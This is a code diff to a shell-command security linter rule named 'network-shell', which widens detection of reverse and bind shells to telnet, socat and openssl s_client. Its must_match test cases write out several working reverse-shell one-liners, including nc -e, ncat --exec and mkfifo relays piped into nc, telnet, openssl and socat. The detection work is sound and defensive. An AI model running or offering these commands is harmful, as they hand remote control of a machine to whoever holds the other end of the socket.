@@ -18,6 +18,9 @@ from ._paths import literal_prefix, reading, redirect_writes_file, written_paths
 from ._rule import Hit, Inspects, rule
 
 _NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"})
+# Programs that carry their standard input to a network peer and its answers
+# back: a shell piped into one is a relay (openssl only as `s_client`).
+_SOCKET_CLIENTS = _NETCATS | {"socat", "telnet", "cryptcat", "openssl"}
 _SOCAT_EXEC_ADDRESSES = ("exec:", "system:")
 
 
@@ -53,11 +56,14 @@ def dev_tcp_redirection(subject: RedirectSubject, tables: Tables) -> Iterator[Hi
     id="NE002",
     name="network-shell",
     severity=Severity.HIGH,
-    summary="Connects a program to a network socket (nc -e, ncat --exec, socat EXEC:/SYSTEM:).",
+    summary=(
+        "Connects a program to a network socket (nc -e, ncat --exec, socat EXEC:/SYSTEM:, "
+        "a shell piped into nc, telnet or openssl s_client)."
+    ),
     rationale="A shell bound to a socket gives whoever is on the other end full control: a reverse or bind shell.",
     safer_alternative="Use nc/socat only to move data (`nc -zv host 80`), never to run programs.",
     inspects=Inspects.COMMAND,
-    commands=_NETCATS | {"socat"},
+    commands=_SOCKET_CLIENTS,
     must_match=(
         "nc -e /bin/sh 10.0.0.1 4444",
         "ncat --exec /bin/bash 10.0.0.1 4444",
@@ -67,6 +73,9 @@ def dev_tcp_redirection(subject: RedirectSubject, tables: Tables) -> Iterator[Hi
         "socat TCP-LISTEN:4444,reuseaddr SYSTEM:bash",
         "ncat -lvp 4444 --sh-exec 'bash -i'",
         "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
+        "sh -i 2>&1 < /tmp/f | telnet 10.0.0.1 4444 > /tmp/f",
+        "bash -i 2>&1 < /tmp/f | openssl s_client -quiet -connect 10.0.0.1:443 > /tmp/f",
+        "sh -i < /tmp/f 2>&1 | socat - TCP:10.0.0.1:4444 > /tmp/f",
     ),
     must_not_match=(
         "nc -zv example.com 80",
@@ -74,21 +83,29 @@ def dev_tcp_redirection(subject: RedirectSubject, tables: Tables) -> Iterator[Hi
         "ncat -l 8080 > file",
         "mkfifo /tmp/pipe",
         "tar cz dir | nc host 9000",
+        "openssl s_client -connect example.com:443 < /dev/null",
+        "echo QUIT | telnet mail.example.com 25",
+        "sh make-csr.sh | openssl req -new -key key.pem",
     ),
 )
 def network_shell(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
     name = subject.name
     args = subject.args
-    if name in _NETCATS:
-        if reading(subject).has("--exec", "--sh-exec", "--lua-exec"):
-            yield Hit(subject.span, f"`{name}` runs a program connected to a socket")
-        elif _fed_by_interpreter(subject, tables):
-            # The fifo relay: `cat f | sh -i 2>&1 | nc HOST PORT > f`.
-            yield Hit(subject.span, f"a shell's output is sent through `{name}`")
-    elif name == "socat":
-        for arg in args:
-            if any(value.lower().startswith(_SOCAT_EXEC_ADDRESSES) for value in arg.values):
-                yield Hit(arg.span, "socat connects a socket to a program")
+    if name in _NETCATS and reading(subject).has("--exec", "--sh-exec", "--lua-exec"):
+        yield Hit(subject.span, f"`{name}` runs a program connected to a socket")
+        return
+    if name == "socat":
+        exec_addresses = [
+            arg for arg in args if any(value.lower().startswith(_SOCAT_EXEC_ADDRESSES) for value in arg.values)
+        ]
+        for arg in exec_addresses:
+            yield Hit(arg.span, "socat connects a socket to a program")
+        if exec_addresses:
+            return
+    connects = name != "openssl" or (bool(args) and args[0].value == "s_client")
+    if connects and _fed_by_interpreter(subject, tables):
+        # The fifo relay: `cat f | sh -i 2>&1 | nc HOST PORT > f`.
+        yield Hit(subject.span, f"a shell's output is sent through `{name}`")
 
 
 @rule(
